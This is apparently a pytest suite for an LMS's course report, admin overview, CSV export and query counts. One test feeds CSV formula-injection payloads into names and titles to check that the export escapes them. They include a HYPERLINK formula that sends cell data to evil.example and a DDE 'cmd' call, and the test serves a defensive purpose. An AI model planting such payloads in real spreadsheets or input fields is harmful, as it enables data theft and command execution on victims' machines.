"""Reports: the instructor's course report (grid, group filter, sorting, pagination, CSV that no
spreadsheet runs as a formula) and the administrators' overview, with access and statement counts."""
import csv
import io
from datetime import timedelta
from html.parser import HTMLParser

import pytest
from sqlalchemy import select

from lms.auth.models import User, utcnow
from lms.courses.models import Activity, Course, Module
from lms.enrollments import services as enrollments
from lms.enrollments.models import Enrollment
from lms.extensions import db
from lms.progress.models import COMPLETED, FAILED, IN_PROGRESS, PASSED, STATUS_LABELS
from lms.progress.services import course_figures, progress_of, record, spreadsheet_safe
from tests.conftest import counting_statements
from tests.lms import test_enrollments as people
from tests.lms.test_enrollments import ROLES, add_people, make_course, sign_in

SLUG = "report-course"
REPORT = f"/courses/{SLUG}/report"
OVERVIEW = "/reports/courses"


# --- helpers ------------------------------------------------------------------------------


def course_named(slug=SLUG):
    return people.course_named(slug)


def enroll(app, user, slug=SLUG, **kwargs):
    return people.enroll(app, user, slug=slug, **kwargs)


class TableRows(HTMLParser):
    """The text of each cell of each row in the bodies of the page's tables."""

    def __init__(self):
        super().__init__()
        self.rows, self.cell, self.in_body = [], None, False

    def handle_starttag(self, tag, attrs):
        if tag == "tbody":
            self.in_body = True
        elif tag == "tr" and self.in_body:
            self.rows.append([])
        elif tag in ("td", "th") and self.in_body:
            self.cell = []
        elif tag == "br" and self.cell is not None:
            self.cell.append(" ")

    def handle_endtag(self, tag):
        if tag == "tbody":
            self.in_body = False
        elif tag in ("td", "th") and self.cell is not None:
            self.rows[-1].append(" ".join("".join(self.cell).split()))
            self.cell = None

    def handle_data(self, data):
        if self.cell is not None:
            self.cell.append(data)


def table_rows(html):
    parser = TableRows()
    parser.feed(html)
    return parser.rows


def learner_names(html):
    return [row[0].rsplit(" ", 1)[0] for row in table_rows(html) if len(row) > 1]


def read_csv(response):
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    text = response.get_data().decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))


def activity(slug, course_slug=SLUG):
    return db.session.scalar(
        select(Activity).join(Course).where(Course.slug == course_slug, Activity.slug == slug)
    )


def enrollment_of(email, course_slug=SLUG):
    return db.session.scalar(
        select(Enrollment).join(User).join(Course).where(User.email == email, Course.slug == course_slug)
    )


def add_activities(app, count, slug=SLUG):
    with app.app_context():
        course = course_named(slug)
        module = Module(course=course, slug=f"extra-{count}", title={"en": "Extra"}, position=9)
        db.session.add(module)
        db.session.add_all(
            Activity(course=course, module=module, type_key="lesson", slug=f"extra-{count}-{number}",
                     title={"en": f"Extra {number}"}, content={"en": "Text"}, position=number)
            for number in range(count)
        )
        db.session.commit()


@pytest.fixture
def course(app):
    """a0 (weight 1) and a1 (weight 2) are required, a2 is optional; another course beside it."""
    with app.app_context():
        make_course(SLUG)
        make_course("other-course")
        activity("a1").weight = 2
        activity("a2").required = False
        db.session.commit()
    return SLUG


@pytest.fixture
def learners(app, course, create_user):
    """Four active trainees with known progress, and people who must not appear in the report."""
    now = utcnow()
    people = [
        ("ainur@example.kz", "Ainur", "North", [("a0", COMPLETED, None), ("a1", PASSED, 9.5)], now - timedelta(days=2)),
        ("boris@example.kz", "Boris", "North", [("a0", COMPLETED, 3)], now - timedelta(hours=1)),
        ("chingiz@example.kz", "Chingiz", "South", [("a1", FAILED, 2), ("a2", COMPLETED, None)], now - timedelta(days=10)),
        ("dana@example.kz", "Dana", None, [], None),
    ]
    for email, name, group, steps, last in people:
        enroll(app, create_user(email=email, name=name), group=group)
        with app.app_context():
            enrollment = enrollment_of(email)
            for slug, status, score in steps:
                record(enrollment, activity(slug), status, score=score)
            enrollment.last_activity_at = last
            db.session.commit()
    enroll(app, create_user(email="erlan@example.kz", name="Erlan"), group="North")
    with app.app_context():
        enrollments.withdraw(enrollment_of("erlan@example.kz"))
        db.session.commit()
    enroll(app, create_user(role="instructor", email="teacher@example.kz", name="Teacher"), role="instructor", group="North")
    enroll(app, create_user(email="elsewhere@example.kz", name="Elsewhere"), slug="other-course")
    return people


# --- access ----------------------------------------------------------------------------------


@pytest.mark.parametrize("role", ROLES)
def test_reports_are_for_staff_and_the_overview_for_administrators(app, client, course, login_as, role):
    sign_in(app, role, login_as, slug=SLUG)
    responses = {path: client.get(path) for path in (REPORT, f"{REPORT}.csv", OVERVIEW)}
    for path, response in responses.items():
        if role == "anonymous":
            assert response.status_code == 302 and "/account/login" in response.headers["Location"], path
        elif role == "admin" or (role == "course instructor" and path != OVERVIEW):
            assert response.status_code == 200, path
        else:
            assert response.status_code == 403, path


def test_unknown_course_is_not_found(client, course, login_as):
    login_as("admin")
    assert client.get("/courses/nothing-here/report").status_code == 404
    assert client.get("/courses/nothing-here/report.csv").status_code == 404


def test_the_admin_navigation_links_to_the_overview(client, login_as):
    login_as("admin")
    html = client.get("/admin/users").get_data(as_text=True)
    assert f'href="{OVERVIEW}"' in html


# --- the grid ----------------------------------------------------------------------------------


def test_the_grid_shows_status_and_score_as_progress_says(app, client, learners, login_as):
    login_as("admin")
    html = client.get(REPORT).get_data(as_text=True)
    assert "4 learners" in html
    rows = {row[0].rsplit(" ", 1)[0]: row[1:] for row in table_rows(html)}
    assert list(rows) == ["Ainur", "Boris", "Chingiz", "Dana"]  # no withdrawn trainee, no instructor, no other course
    assert rows["Ainur"][0] == "North" and rows["Dana"][0] == "—"
    assert [row[1] for row in rows.values()] == ["100%", "33%", "0%", "0%"]
    assert rows["Ainur"][3:] == ["Completed", "Passed 9.5", "Not started"]
    assert rows["Boris"][3:] == ["Completed 3", "Not started", "Not started"]
    assert rows["Chingiz"][3:] == ["Not started", "Failed 2", "Completed"]
    assert rows["Dana"][2] == "never"
    with app.app_context():
        course_id = course_named().id
        active = db.session.scalars(
            select(Enrollment).where(Enrollment.course_id == course_id, Enrollment.role == "trainee", Enrollment.status == "active")
        ).all()
        for enrollment, standing in ((e, progress_of([e])[e.id]) for e in active):
            row = rows[enrollment.user.name]
            assert row[1] == f"{standing.percent}%"
            for cell, state in zip(row[3:], standing.states, strict=True):
                score = state.progress.score if state.progress else None
                assert cell == " ".join([str(STATUS_LABELS[state.status]), *([f"{score:g}"] if score is not None else [])])


def test_group_filter_and_my_group(app, client, learners, login_as, auth):
    auth.login("teacher@example.kz")
    with app.app_context():
        north = enrollments.group_named(course_named(), "North").id
    html = client.get(REPORT).get_data(as_text=True)
    assert f'<option value="{north}">North (my group)</option>' in html
    html = client.get(f"{REPORT}?group={north}").get_data(as_text=True)
    assert learner_names(html) == ["Ainur", "Boris"]
    assert "2 learners" in html
    assert f'href="{REPORT}.csv?group={north}"' in html
    response = client.get(f"{REPORT}?group=424242")
    assert response.status_code == 400
    assert "Not a valid choice" in response.get_data(as_text=True)


@pytest.mark.parametrize("query, names", [
    ("", ["Ainur", "Boris", "Chingiz", "Dana"]),
    ("?sort=name&order=desc", ["Dana", "Chingiz", "Boris", "Ainur"]),
    ("?sort=progress&order=desc", ["Ainur", "Boris", "Chingiz", "Dana"]),
    ("?sort=progress&order=asc", ["Chingiz", "Dana", "Boris", "Ainur"]),
    ("?sort=activity&order=desc", ["Boris", "Ainur", "Chingiz", "Dana"]),
    ("?sort=activity&order=asc", ["Dana", "Chingiz", "Ainur", "Boris"]),
])
def test_sorting_by_name_progress_and_last_activity(client, learners, login_as, query, names):
    login_as("admin")
    assert learner_names(client.get(REPORT + query).get_data(as_text=True)) == names
    rows = read_csv(client.get(f"{REPORT}.csv{query}"))
    assert [row[0] for row in rows[1:]] == names


def test_sort_headers_toggle_the_order(client, learners, login_as):
    login_as("admin")
    html = client.get(f"{REPORT}?sort=progress&order=desc").get_data(as_text=True)
    assert f'href="{REPORT}?sort=progress&amp;order=asc" aria-sort="descending"' in html
    assert f'href="{REPORT}?sort=activity&amp;order=desc"' in html
    for bad in ("?sort=secret", "?order=sideways"):
        assert client.get(REPORT + bad).status_code == 400
        assert client.get(f"{REPORT}.csv{bad}").status_code == 400


def test_progress_sorting_follows_the_weighted_percent(app, client, course, create_user, login_as):
    """Two required lessons of weight 1 and one of weight 2: one heavy lesson outweighs one light one."""
    login_as("admin")
    for email, name, done in [("light@example.kz", "Light", ["a0"]), ("heavy@example.kz", "Heavy", ["a1"]),
                              ("extra@example.kz", "Extra", ["a2"])]:
        enroll(app, create_user(email=email, name=name))
        with app.app_context():
            for slug in done:
                record(enrollment_of(email), activity(slug), COMPLETED)
            db.session.commit()
    html = client.get(f"{REPORT}?sort=progress&order=desc").get_data(as_text=True)
    assert learner_names(html) == ["Heavy", "Light", "Extra"]
    assert [row[2] for row in table_rows(html)] == ["67%", "33%", "0%"]


def test_the_report_is_paginated(app, client, course, login_as):
    login_as("admin")
    add_people(app, 30, "paged", slug=SLUG)
    first = client.get(f"{REPORT}?sort=name&order=desc").get_data(as_text=True)
    assert "30 learners" in first and "Page 1 of 2" in first
    assert learner_names(first) == [f"Paged {number:03d}" for number in range(29, 4, -1)]
    assert f'href="{REPORT}?sort=name&amp;order=desc&amp;page=2"' in first
    second = client.get(f"{REPORT}?sort=name&order=desc&page=2").get_data(as_text=True)
    assert learner_names(second) == [f"Paged {number:03d}" for number in range(4, -1, -1)]
    assert learner_names(client.get(f"{REPORT}?page=7").get_data(as_text=True)) == []
    rows = read_csv(client.get(f"{REPORT}.csv?sort=name&order=desc&page=2"))
    assert len(rows) == 31  # the export has everyone, whatever the page


# --- CSV -------------------------------------------------------------------------------------------


def test_csv_export_has_the_same_data(app, client, learners, login_as):
    login_as("admin")
    response = client.get(f"{REPORT}.csv")
    assert response.headers["Content-Disposition"] == f'attachment; filename="{SLUG}-report.csv"'
    rows = read_csv(response)
    assert rows[0] == ["Name", "Email", "Group", "Progress, %", "Last activity (UTC)",
                       "A0", "A0: score", "A1", "A1: score", "A2", "A2: score"]
    by_name = {row[0]: row for row in rows[1:]}
    assert list(by_name) == ["Ainur", "Boris", "Chingiz", "Dana"]
    assert by_name["Ainur"][1:4] == ["ainur@example.kz", "North", "100"]
    assert by_name["Ainur"][5:] == ["Completed", "", "Passed", "9.5", "Not started", ""]
    assert by_name["Boris"][5:7] == ["Completed", "3"]
    assert by_name["Chingiz"][3] == "0" and by_name["Chingiz"][7:9] == ["Failed", "2"]
    assert by_name["Dana"][2:5] == ["", "0", ""]
    with app.app_context():
        last = enrollment_of("boris@example.kz").last_activity_at
    assert by_name["Boris"][4] == last.strftime("%Y-%m-%d %H:%M")
    with app.app_context():
        north = enrollments.group_named(course_named(), "North").id
    assert [row[0] for row in read_csv(client.get(f"{REPORT}.csv?group={north}"))[1:]] == ["Ainur", "Boris"]


DANGEROUS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+cmd|' /C calc'!A0", "-1", "@SUM(A1:A9)",
             "\tTabbed", "\rReturned"]


def test_csv_cells_never_start_a_formula(app, client, course, create_user, login_as):
    login_as("admin")
    with app.app_context():
        activity("a0").title = {"en": "=1+1"}
        db.session.commit()
    for number, name in enumerate(DANGEROUS):
        enroll(app, create_user(email=f"risky{number}@example.kz", name=name), group="=cmd()" if number == 0 else None)
    rows = read_csv(client.get(f"{REPORT}.csv"))
    names = sorted(row[0] for row in rows[1:])
    assert names == sorted("'" + name for name in DANGEROUS)
    assert "'=1+1" in rows[0] and "'=1+1: score" in rows[0]
    assert any(row[2] == "'=cmd()" for row in rows[1:])
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


@pytest.mark.parametrize("value, safe", [
    ("=A1", "'=A1"), ("+1", "'+1"), ("-1", "'-1"), ("@x", "'@x"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("Aigerim", "Aigerim"), ("a=b", "a=b"), ("", ""), (None, ""), (100, "100"), (9.5, "9.5"),
])
def test_spreadsheet_safe(value, safe):
    assert spreadsheet_safe(value) == safe


# --- the administrators' overview --------------------------------------------------------------------


def overview_rows(html):
    return {row[0]: row[1:5] for row in table_rows(html) if len(row) > 1}


def test_overview_counts_enrolled_active_and_completed_per_course(app, client, learners, create_user, login_as):
    login_as("admin")
    with app.app_context():
        old = enrollment_of("chingiz@example.kz")
        old.last_activity_at = utcnow() - timedelta(days=31)  # no longer active
        # A withdrawn trainee who finished and an instructor who finished do not count.
        for email in ("erlan@example.kz", "teacher@example.kz"):
            enrollment = enrollment_of(email)
            for slug in ("a0", "a1"):
                record(enrollment, activity(slug), COMPLETED)
        db.session.add(Course(slug="empty-draft", title={"en": "Empty draft"}, published=False))
        db.session.commit()
    html = client.get(OVERVIEW).get_data(as_text=True)
    rows = overview_rows(html)
    assert rows["Report Course"] == ["Published", "4", "2", "1"]  # Ainur and Boris active; Ainur complete
    assert rows["Other Course"] == ["Published", "1", "0", "0"]
    assert rows["Empty draft"] == ["Draft", "0", "0", "0"]
    assert f'href="{REPORT}"' in html
    with app.app_context():
        course = course_named()
        trainees = db.session.scalars(
            select(Enrollment).where(Enrollment.course_id == course.id, Enrollment.role == "trainee", Enrollment.status == "active")
        ).all()
        assert sum(standing.complete for standing in progress_of(trainees).values()) == 1


def test_completed_matches_progress_in_edge_cases(app, create_user):
    """Rounding to 100%, weightless required activities, optional-only courses and archived activities."""
    with app.app_context():
        make_course("rounding", activities=2)
        activity("a0", "rounding").weight = 999
        make_course("optional-only", activities=1)
        activity("a0", "optional-only").required = False
        make_course("archived", activities=2)
        activity("a1", "archived").archived = True
        db.session.commit()
    user_ids = [create_user().id for _ in range(2)]
    with app.app_context():
        for slug, steps in [("rounding", ["a0"]), ("optional-only", []), ("archived", ["a0"])]:
            for number, user_id in enumerate(user_ids):
                enrollment = enrollments.enroll(db.session.get(User, user_id), course_named(slug))
                if number == 0:
                    for step in steps:
                        record(enrollment, activity(step, slug), COMPLETED)
        record(enrollments.enrollment_of(db.session.get(User, user_ids[1]), course_named("rounding")),
               activity("a1", "rounding"), IN_PROGRESS)
        db.session.commit()
        courses = [course_named(slug) for slug in ("rounding", "optional-only", "archived")]
        figures = course_figures([course.id for course in courses], utcnow() - timedelta(days=30))
        for course in courses:
            trainees = db.session.scalars(select(Enrollment).where(Enrollment.course_id == course.id)).all()
            expected = sum(standing.complete for standing in progress_of(trainees).values())
            assert figures[course.id].completed == expected, course.slug
        assert [figures[course.id].completed for course in courses] == [1, 2, 1]


def test_overview_is_paginated(app, client, login_as):
    login_as("admin")
    with app.app_context():
        db.session.add_all(Course(slug=f"course-{number:02d}", title={"en": f"Course {number:02d}"}) for number in range(30))
        db.session.commit()
    first = client.get(OVERVIEW).get_data(as_text=True)
    assert "Page 1 of 2" in first and len(overview_rows(first)) == 25
    assert f'href="{OVERVIEW}?page=2"' in first
    assert len(overview_rows(client.get(f"{OVERVIEW}?page=2").get_data(as_text=True))) == 5


# --- statement counts -----------------------------------------------------------------------------------


def add_progress(app, prefix, slug=SLUG):
    """Progress on every activity for the learners whose email starts with `prefix`."""
    with app.app_context():
        course = course_named(slug)
        activities = db.session.scalars(select(Activity).where(Activity.course_id == course.id)).all()
        for enrollment in db.session.scalars(select(Enrollment).join(User).where(User.email.like(f"{prefix}%"))):
            for number, step in enumerate(activities):
                record(enrollment, step, COMPLETED if number % 2 else IN_PROGRESS, score=number)
        db.session.commit()


@pytest.mark.parametrize("path", [REPORT, f"{REPORT}?sort=progress&order=desc", f"{REPORT}?sort=activity", f"{REPORT}.csv"])
def test_report_statements_do_not_grow_with_learners_or_activities(app, client, course, login_as, path):
    instructor = login_as("instructor")
    enroll(app, instructor, role="instructor", group="North")
    add_people(app, 3, "few", slug=SLUG, group="North")
    add_progress(app, "few")
    with counting_statements(app) as few:
        response = client.get(path)
    assert response.status_code == 200
    add_people(app, 40, "many", slug=SLUG, group="South")
    add_activities(app, 12)
    add_progress(app, "many")
    with counting_statements(app) as many:
        response = client.get(path)
    assert response.status_code == 200
    assert "Extra 11" in response.get_data(as_text=True)
    assert any("FROM progress" in statement for statement in few)
    assert len(many) == len(few), many


def test_overview_statements_do_not_grow_with_courses_learners_or_activities(app, client, course, login_as):
    login_as("admin")
    add_people(app, 3, "few", slug=SLUG)
    add_progress(app, "few")
    with counting_statements(app) as few:
        assert client.get(OVERVIEW).status_code == 200
    with app.app_context():
        for number in range(8):
            make_course(f"more-{number}", activities=5)
        db.session.commit()
    for number in range(8):
        add_people(app, 6, f"many{number}", slug=f"more-{number}")
        add_progress(app, f"many{number}", slug=f"more-{number}")
    add_activities(app, 10)
    with counting_statements(app) as many:
        html = client.get(OVERVIEW).get_data(as_text=True)
    assert overview_rows(html)["More 7"][1] == "6"
    assert any("FROM enrollments" in statement for statement in few)
    assert len(many) == len(few), many
